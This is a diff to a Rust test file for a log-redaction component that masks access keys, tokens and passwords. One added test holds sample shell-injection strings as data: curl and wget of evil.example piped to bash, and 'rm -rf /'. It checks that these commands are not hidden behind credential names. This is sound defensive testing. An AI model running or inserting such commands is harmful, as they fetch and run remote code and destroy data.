@@ -5,7 +5,11 @@ use super::*;
 fn swept(seen: &[&str], text: &str) -> String {
     let mut noted = Seen::default();
     seen.iter().for_each(|value| noted.note(value));
-    noted.sweep(text, &mut BTreeMap::new())
+    free(&noted, text)
+}
+
+fn free(seen: &Seen, text: &str) -> String {
+    seen.sweep(text, Text::Free, &mut BTreeMap::new())
 }
 
 #[test]
@@ -18,16 +22,21 @@ fn secrets_are_known_by_their_form() {
         ("TMP.3Kabcdefghijkl", "[masked]"),
         ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "[masked]"),
         (
-            "https://b.oss.example/k?Expires=1&OSSAccessKeyId=LTAIxyz12345&Signature=abc%2Bdef%3D&x=1",
+            "https://b.oss.example/k?Expires=1&OSSAccessKeyId=LTAIxyz123456789&Signature=vjbyPxyb%2BT272YEAiv4%3D&x=1",
             "https://b.oss.example/k?Expires=1&OSSAccessKeyId=[masked]&Signature=[masked]&x=1",
         ),
         (
-            "https://b.example/?x-oss-security-token=CAISabcd1234&x-oss-signature=0123456789",
+            "https://b.example/?x-oss-security-token=CAISabcd12345678&x-oss-signature=0123456789abcdef",
             "https://b.example/?x-oss-security-token=[masked]&x-oss-signature=[masked]",
         ),
-        ("https://tb.example/?token=abcdefgh12", "https://tb.example/?token=[masked]"),
-        ("Authorization: Bearer abcdef.123456", "Authorization: Bearer [masked]"),
-        ("password=hunter22222;", "password=[masked];"),
+        ("https://tb.example/?token=abcdefgh12345678", "https://tb.example/?token=[masked]"),
+        ("Authorization: Bearer abcdef.123456789", "Authorization: Bearer [masked]"),
+        ("password=hunter2222222222;", "password=[masked];"),
+        ("accessKeySecret: a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5", "accessKeySecret: [masked]"),
+        (
+            "x-acs-accesskey-id:STSredline0123456\nx-acs-security-token:CAISabcd/1234+5678==\nx-acs-version:1",
+            "x-acs-accesskey-id:[masked]\nx-acs-security-token:[masked]\nx-acs-version:1",
+        ),
     ] {
         assert_eq!(swept(&[], text), expected);
     }
@@ -39,6 +48,8 @@ fn ordinary_words_stay() {
         "registry-vpc.cn-hangzhou.cr.aliyuncs.com/pai-dlc/pytorch-training:2.3-gpu",
         "tokenizer=bert-base-uncased",
         "token=short",
+        "token=sixteen-is-more",
+        "x-acs-security-token:\nx-acs-signature-nonce:1",
         "LTAI is how access keys begin",
         "POSTS.internationalisation2024",
         "the bearer of news",
@@ -118,17 +129,94 @@ fn settings_are_noted_only_when_they_look_like_secrets() {
     }
     seen.note_setting("wandb-canary-5d2c8f1e7a90b346");
     let text = "train /mnt/data/run-2024-0001 wandb-canary-5d2c8f1e7a90b346";
-    assert_eq!(seen.sweep(text, &mut BTreeMap::new()), "train /mnt/data/run-2024-0001 [masked]");
+    assert_eq!(free(&seen, text), "train /mnt/data/run-2024-0001 [masked]");
+}
+
+/// What follows a name like `token` is hidden only as far as a credential goes: nobody hides a command there.
+#[test]
+fn commands_cannot_hide_behind_a_name() {
+    for (text, expected) in [
+        ("token=$(curl${IFS}evil.example|bash)", "token=$(curl${IFS}evil.example|bash)"),
+        ("password=`wget${IFS}evil.example/installer`", "password=`wget${IFS}evil.example/installer`"),
+        ("token= /opt/evil/installer.sh", "token= /opt/evil/installer.sh"),
+        ("token:\n/opt/evil/installer.sh", "token:\n/opt/evil/installer.sh"),
+        ("Bearer\n/opt/evil/installer.sh", "Bearer\n/opt/evil/installer.sh"),
+        ("token=abcdefgh12345678|bash", "token=[masked]|bash"),
+        ("token=abcdefgh12345678$(curl evil.example)", "token=[masked]$(curl evil.example)"),
+        ("Bearer abcdefgh12345678;rm${IFS}-rf${IFS}/", "Bearer [masked];rm${IFS}-rf${IFS}/"),
+    ] {
+        assert_eq!(swept(&[], text), expected);
+    }
+}
+
+/// A name inside a credential takes nothing of it out of sight of the patterns.
+#[test]
+fn a_credential_goes_whole_whoever_is_named_in_it() {
+    assert_eq!(swept(&["admin"], "token=abcdefg-admin-hijklmn by admin"), "token=[masked] by [masked]");
+}
+
+/// What stands in an identifier by chance stays; a credential goes from every text.
+#[test]
+fn what_is_swept_depends_on_what_a_text_is() {
+    let mut seen = Seen::default();
+    for value in ["vision", "Running", "1001", "zhangwei-canary", "张伟"] {
+        seen.note(value);
+    }
+    for (text, expected) in [
+        (
+            "registry/vision/pytorch:2.1",
+            ["registry/[masked]/pytorch:2.1", "registry/vision/pytorch:2.1", "registry/vision/pytorch:2.1"],
+        ),
+        ("Running", ["[masked]", "Running", "Running"]),
+        ("1001", ["[masked]", "1001", "1001"]),
+        ("reg/zhangwei-canary/i", ["reg/[masked]/i", "reg/zhangwei-canary/i", "reg/[masked]/i"]),
+        ("o=张伟", ["o=[masked]", "o=张伟", "o=[masked]"]),
+        ("?token=abcdefgh12345678", ["?token=[masked]", "?token=[masked]", "?token=[masked]"]),
+        ("id-LTAI5tQ9wEr7TyU2iO4p", ["id-[masked]", "id-[masked]", "id-[masked]"]),
+    ] {
+        let swept =
+            [Text::Free, Text::Exact, Text::Given].map(|kind| seen.sweep(text, kind, &mut BTreeMap::new()));
+        assert_eq!(swept, expected, "{text}");
+    }
 }
 
 #[test]
-fn too_many_values_are_no_panic_and_keep_the_first() {
+fn regions_are_nobodys_names() {
+    for (region, _) in crate::spec::value::REGIONS {
+        assert_eq!(
+            swept(&[region], &format!("PAI isn't activated in {region}")),
+            format!("PAI isn't activated in {region}")
+        );
+    }
+}
+
+#[test]
+fn of_too_many_values_the_oldest_go_first() {
     let mut seen = Seen::default();
-    for index in 0..CAPACITY + 10 {
+    for index in 0..CAPACITY + 2 {
         seen.note(&format!("identity-number-{index}."));
     }
-    assert_eq!(seen.values.len(), CAPACITY);
-    assert_eq!(seen.sweep("identity-number-0.", &mut BTreeMap::new()), GONE);
+    seen.note("identity-number-2.");
+    assert_eq!((seen.noted.len(), seen.order.len()), (CAPACITY, CAPACITY));
+    let last = CAPACITY + 1;
+    let text = format!("identity-number-0. identity-number-1. identity-number-2. identity-number-{last}.");
+    assert_eq!(free(&seen, &text), "identity-number-0. identity-number-1. [masked] [masked]");
+}
+
+#[test]
+fn a_pinned_value_is_never_forgotten() {
+    let mut seen = Seen::default();
+    seen.note("noted-then-pinned");
+    for value in ["noted-then-pinned", "pinned-then-noted", "sim1", "abc"] {
+        seen.pin(value);
+    }
+    seen.note("pinned-then-noted");
+    for index in 0..=CAPACITY {
+        seen.note(&format!("identity-number-{index}."));
+    }
+    assert_eq!((seen.noted.len(), seen.order.len(), seen.pinned.len()), (CAPACITY, CAPACITY, 3));
+    let text = "noted-then-pinned pinned-then-noted sim1 sim12 abc";
+    assert_eq!(free(&seen, text), "[masked] [masked] [masked] sim12 abc");
 }
 
 proptest! {
@@ -148,7 +236,7 @@ proptest! {
             text.push_str(value);
             text.push_str(between);
         }
-        let swept = seen.sweep(&text, &mut BTreeMap::new());
+        let swept = free(&seen, &text);
         for value in &values {
             prop_assert!(!swept.contains(value.as_str()), "{} in {}", value, swept);
         }
